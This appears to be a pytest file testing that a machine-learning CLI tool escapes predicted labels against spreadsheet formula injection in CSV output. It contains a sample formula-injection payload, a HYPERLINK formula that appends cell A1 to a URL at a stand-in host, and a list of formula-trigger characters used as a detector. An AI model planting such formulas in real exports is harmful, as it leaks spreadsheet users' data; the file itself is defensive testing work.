"""Labels that a spreadsheet would take for formulas."""

import csv
import io

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from cutplane.cli.app import app
from cutplane.cli.process import ExitCode
from cutplane.io.labels import harmless

EVIL = '=HYPERLINK("http://example.org/?"&A1,"x")'
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


def cutplane(*arguments):
    result = CliRunner().invoke(app, [str(argument) for argument in arguments])
    assert result.exit_code == ExitCode.SUCCESS, result.output
    return result.stdout


@pytest.fixture
def fitted(tmp_path):
    def fit(*labels, task="classification"):
        rng = np.random.default_rng(0)
        rows = [[*rng.normal(size=2).round(3), labels[k % len(labels)]] for k in range(60)]
        for row in rows:
            row[0] += 3 * labels.index(row[2])
        with open(tmp_path / "data.csv", "w", newline="") as file:
            csv.writer(file).writerows([["a", "b", "y"], *rows])
        given = ("--target", "y", "--task", task, "--quiet")
        cutplane("fit", tmp_path / "data.csv", *given, "--out", tmp_path / "model")
        return tmp_path / "model", tmp_path / "data.csv"

    return fit


def test_formulas_are_text(fitted, tmp_path):
    model, data = fitted(EVIL, "@SUM(1)", "fine")
    cutplane("predict", model, data, "--out", tmp_path / "said.csv")
    said = (tmp_path / "said.csv").read_text()
    assert said == cutplane("predict", model, data)
    cells = list(csv.reader(io.StringIO(said)))
    assert {len(row) for row in cells} == {1}
    assert {row[0] for row in cells} == {f"'{EVIL}", "'@SUM(1)", "fine"}


def test_formulas_as_they_are(fitted):
    model, data = fitted(EVIL, "@SUM(1)", "fine")
    assert {*cutplane("predict", model, data, "--formulas").splitlines()} == {
        EVIL,
        "@SUM(1)",
        "fine",
    }


def test_numbers_stay_numbers(fitted):
    model, data = fitted("-1", "+1")
    assert {*cutplane("predict", model, data).splitlines()} == {"-1", "+1"}
    for line in cutplane("predict", model, data, "--scores", "--quiet").splitlines():
        float(line)
    model, data = fitted("-1.5", "-2e3", "7", task="regression")
    predictions = [float(line) for line in cutplane("predict", model, data).splitlines()]
    assert min(predictions) < 0.0


def as_a_spreadsheet_reads(line):
    """Return the cells of a line, by any of the separators that spreadsheets know."""
    return [cell for sign in ",;\t|" for row in csv.reader([line], delimiter=sign) for cell in row]


def is_a_formula(cell):
    cell = cell.strip(" \"'")
    return cell.startswith(tuple(SIGNS)) and len(cell) > 1


@given(st.text(st.sampled_from("=+-@a1.,;|\" '\uff1d"), max_size=8))
def test_no_cell_of_any_label_is_a_formula(label):
    shown = harmless(label)
    if shown == label:
        try:
            float(label)
        except ValueError:
            assert not any(map(is_a_formula, as_a_spreadsheet_reads(label)))
        return
    assert all(not cell.startswith(tuple(SIGNS)) for cell in as_a_spreadsheet_reads(shown))
    (cell,) = next(csv.reader([shown]))
    assert cell == f"'{label}"


@pytest.mark.parametrize("label", ["+", "-", "@", "<=50K", "a-b", "5-10", "x=1", "a, b", ""])
def test_other_labels_stay_as_they_are(label):
    assert harmless(label) == label


@pytest.mark.parametrize("number", ["-1", "+1", "-1e-3", "+.5", "-0"])
def test_numbers_are_harmless(number):
    assert harmless(number) == number
